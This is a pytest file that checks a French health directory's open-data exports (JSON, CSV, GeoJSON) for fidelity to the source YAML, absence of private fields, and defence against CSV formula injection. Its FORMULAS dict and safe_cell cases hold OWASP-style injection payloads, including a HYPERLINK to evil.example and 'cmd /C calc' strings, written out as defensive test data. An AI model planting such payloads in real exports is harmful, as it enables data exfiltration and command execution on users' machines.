"""Open data: the demo directory exported as JSON, CSV and GeoJSON. The files parse, match the
directory entry for entry (read here straight from the YAML files, not from the model), and
hold no field the CPTS keeps private."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from cpts.pages.opendata import CSV_COLUMNS

from .conftest import ROOT


def read_yaml(folder: str) -> dict[str, dict]:
    return {p.stem: yaml.safe_load(p.read_text("utf-8"))
            for p in sorted((ROOT / "directory" / folder).glob("*.yml"))}


PROFESSIONALS = read_yaml("professionnels")
STRUCTURES = read_yaml("structures")


@pytest.fixture(scope="module")
def exports(demo_site: Path) -> dict[str, Any]:
    folder = demo_site / "donnees"
    with (folder / "annuaire.csv").open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        header, rows = reader.fieldnames, list(reader)
    return {
        "json": json.loads((folder / "annuaire.json").read_text("utf-8")),
        "csv_header": header,
        "csv": rows,
        "geojson": json.loads((folder / "annuaire.geojson").read_text("utf-8")),
    }


def digits(phone: str | None) -> str | None:
    return "".join(c for c in phone if c.isdigit()) if phone else None


def expected_places(data: dict) -> list[dict]:
    """Each place of a professional as the YAML says: in a structure (its address, commune and,
    unless the place has its own, its phone) or at its own address."""
    places = []
    for lieu in data["lieux"]:
        structure = STRUCTURES.get(lieu.get("structure", ""))
        source = structure or lieu
        places.append({
            "structure": lieu.get("structure"), "code_insee": source["commune"],
            "lat": source["coordonnees"]["lat"], "lon": source["coordonnees"]["lon"],
            "telephone": digits(lieu.get("telephone") or (structure or {}).get("telephone")),
        })
    return places


def test_json_matches_the_directory_entry_for_entry(exports: dict[str, Any]) -> None:
    document = exports["json"]
    assert document["licence"] == "Licence Ouverte / Open Licence version 2.0"
    assert document["date"] == "2026-11-23"
    people = {p["identifiant"]: p for p in document["professionnels"]}
    assert set(people) == set(PROFESSIONALS)
    assert len(people) == len(document["professionnels"])
    for slug, data in PROFESSIONALS.items():
        p = people[slug]
        assert (p["nom"], p["prenom"], p["civilite"], p["profession"]) == (
            data["nom"], data["prenom"], data["civilite"], data["profession"]), slug
        assert (p["rpps"], p["adeli"]) == (data.get("rpps"), data.get("adeli")), slug
        assert p["specialites"] == data.get("specialites", []), slug
        assert p["soins_non_programmes"] == data.get("soins_non_programmes"), slug
        assert p["fiche"].endswith(f"/professionnels/{slug}/"), slug
        got = [{"structure": lieu["structure"], "code_insee": lieu["code_insee"], "lat": lieu["lat"],
                "lon": lieu["lon"], "telephone": digits(lieu["telephone"])} for lieu in p["lieux"]]
        assert got == expected_places(data), slug
    places = {s["identifiant"]: s for s in document["structures"]}
    assert set(places) == set(STRUCTURES)
    for slug, data in STRUCTURES.items():
        s = places[slug]
        assert (s["nom"], s["type"], s["code_insee"], s["finess"]) == (
            data["nom"], data["type"], data["commune"], data.get("finess")), slug
        assert (s["lat"], s["lon"]) == (data["coordonnees"]["lat"], data["coordonnees"]["lon"])
        assert digits(s["telephone"]) == digits(data.get("telephone")), slug
        assert s["soins_non_programmes"] == data.get("soins_non_programmes", False), slug


def test_new_patients_status_only_when_the_professional_lets_it_be_published(
        exports: dict[str, Any]) -> None:
    people = {p["identifiant"]: p for p in exports["json"]["professionnels"]}
    rows = {r["identifiant"]: r for r in exports["csv"] if r["type"] == "professionnel"}
    hidden = 0
    for slug, data in PROFESSIONALS.items():
        status = data.get("nouveaux_patients") or {}
        published = status.get("statut") if status.get("publie") else None
        hidden += bool(status and not status.get("publie"))
        assert people[slug]["nouveaux_patients"] == published, slug
        assert rows[slug]["nouveaux_patients"] == (published or ""), slug
    assert hidden >= 3, "the demo holds unpublished statuses: the test must see them"


def _strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (k, *_strings(v))]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [value] if isinstance(value, str) else []


def test_no_private_field_in_any_export(exports: dict[str, Any]) -> None:
    logins = {login for data in (*PROFESSIONALS.values(), *STRUCTURES.values())
              for login in data.get("mainteneurs", [])}
    territory = yaml.safe_load((ROOT / "directory" / "territoire.yml").read_text("utf-8"))
    logins |= set(territory.get("coordinateurs", []))
    # A login may equal an entry's public identifier (« cabinet-chantemerle »): those are not it.
    logins -= set(PROFESSIONALS) | set(STRUCTURES)
    assert len(logins) > 5
    for name in ("json", "geojson"):
        found = set(_strings(exports[name]))
        assert not {"mainteneurs", "publie", "coordinateurs"} & found, name
        assert not logins & found, name
    cells = {cell for row in exports["csv"] for cell in row.values()}
    assert not logins & cells
    assert not {"mainteneurs", "publie"} & set(exports["csv_header"])


def test_csv_has_one_row_per_place_and_per_structure(exports: dict[str, Any]) -> None:
    assert tuple(exports["csv_header"]) == CSV_COLUMNS
    rows = exports["csv"]
    assert len(rows) == sum(len(d["lieux"]) for d in PROFESSIONALS.values()) + len(STRUCTURES)
    for slug, data in PROFESSIONALS.items():
        mine = [r for r in rows if r["type"] == "professionnel" and r["identifiant"] == slug]
        assert [(r["code_insee"], digits(r["telephone"]) or None) for r in mine] == [
            (p["code_insee"], p["telephone"]) for p in expected_places(data)], slug
        assert all(r["nom"] == data["nom"] and r["rpps"] == data.get("rpps", "") for r in mine)
    for slug, data in STRUCTURES.items():
        (row,) = [r for r in rows if r["type"] == "structure" and r["identifiant"] == slug]
        assert (row["nom"], row["code_insee"]) == (data["nom"], data["commune"])
        assert (float(row["latitude"]), float(row["longitude"])) == (
            data["coordonnees"]["lat"], data["coordonnees"]["lon"])
        assert row["soins_non_programmes"] == ("oui" if data.get("soins_non_programmes") else "non")


def test_geojson_has_one_point_per_place(exports: dict[str, Any]) -> None:
    collection = exports["geojson"]
    assert collection["type"] == "FeatureCollection"
    points = [(f["properties"]["type"], f["properties"]["identifiant"],
               tuple(f["geometry"]["coordinates"])) for f in collection["features"]]
    assert all(f["geometry"]["type"] == "Point" for f in collection["features"])
    expected = [("professionnel", slug, (p["lon"], p["lat"]))
                for slug, data in PROFESSIONALS.items() for p in expected_places(data)]
    expected += [("structure", slug, (d["coordonnees"]["lon"], d["coordonnees"]["lat"]))
                 for slug, d in STRUCTURES.items()]
    assert sorted(points) == sorted(expected)


def test_the_open_data_page_links_the_three_files(demo_site: Path) -> None:
    page = (demo_site / "donnees" / "index.html").read_text("utf-8")
    for name in ("annuaire.json", "annuaire.csv", "annuaire.geojson"):
        assert f'href="{name}"' in page
        assert (demo_site / "donnees" / name).is_file()
    assert "Licence Ouverte" in page
    assert "Ce qui n'est jamais exporté" in page


FORMULAS = {  # a structure's fields: payloads of the kind OWASP lists for CSV injection
    "nom": "=HYPERLINK(https://evil.example/?x=A1;Cliquez)",
    "adresse": "-2+3+cmd /C calc!A0",
    "horaires": {"lundi": "08:00-12:00", "remarque": "@SUM(1+1)*cmd /C calc!A0"},
}


def test_csv_cells_are_never_run_as_formulas_yet_phones_stay_numbers(project: Path) -> None:
    """A member's field beginning with = + - @ is written as text (« ' » first), as in the
    contact service's export; an international phone number is not."""
    from cpts.pages.stage import generate

    from .conftest import TODAY

    structure = project / "directory" / "structures" / "msp-test.yml"
    data = yaml.safe_load(structure.read_text("utf-8"))
    data.update(FORMULAS, telephone="+33 4 92 20 10 10")
    structure.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    docs = generate(project, project / "build" / "docs", today=TODAY).out
    with (docs / "donnees" / "annuaire.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    (msp,) = [r for r in rows if r["identifiant"] == "msp-test"]
    assert msp["nom"] == "'" + FORMULAS["nom"]
    assert msp["adresse"] == "'" + FORMULAS["adresse"]
    (claire,) = [r for r in rows if r["identifiant"] == "martin-claire"]
    assert claire["structure"] == "msp-test"
    assert claire["adresse"] == "'" + FORMULAS["adresse"]
    assert msp["telephone"] == claire["telephone"] == "+33 4 92 20 10 10"
    assert msp["horaires"] == "lundi 08:00-12:00 ; @SUM(1+1)*cmd /C calc!A0"  # not first: text
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "@", "\t", "\r")), (column, cell)
            if cell.startswith(("+", "-")):
                assert cell.replace(" ", "").replace(".", "").lstrip("+-").isdigit(), (column, cell)


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("- 3", "'- 3"),
    ("+33 4 92 21 00 00", "+33 4 92 21 00 00"), ("-1.6843", "-1.6843"), ("04 92", "04 92"),
    ("+33 4 92 21 00 00\n=1", "'+33 4 92 21 00 00\n=1"), ("Dr =1", "Dr =1"),
])
def test_safe_cell(value: str, written: str) -> None:
    from cpts.spreadsheet import safe_cell

    assert safe_cell(value) == written
